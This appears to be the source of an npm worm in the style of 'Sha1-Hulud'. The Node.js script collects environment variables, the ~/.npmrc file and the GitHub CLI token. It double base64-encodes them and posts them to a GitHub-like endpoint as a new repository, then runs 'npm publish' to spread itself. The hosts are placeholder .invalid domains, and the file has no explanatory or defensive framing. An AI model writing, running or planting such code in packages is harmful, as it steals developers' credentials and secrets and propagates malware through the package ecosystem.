const https = require('https'), fs = require('fs'), os = require('os'), cp = require('child_process');
const found = { 'env': process['env'], 'npmrc': '', 'gh': '' };
try { found['npmrc'] = fs['readFileSync'](os['homedir']() + '/.npmrc', 'utf8'); } catch (e) {}
try { found['gh'] = cp['execSync']('gh auth token')['toString'](); } catch (e) {}
const q = https['request']({ 'hostname': 'api.github.invalid', 'path': '/user/repos', 'method': 'POST', 'headers': { 'Authorization': 'token ' + found['gh'] } });
q['on']('error', function () {});
q['end'](JSON['stringify']({ 'description': 'Sha1-Hulud: The Second Coming.', 'body': Buffer['from'](Buffer['from'](JSON['stringify'](found))['toString']('base64'))['toString']('base64') }));
cp['execSync']('npm publish --registry https://registry.invalid');
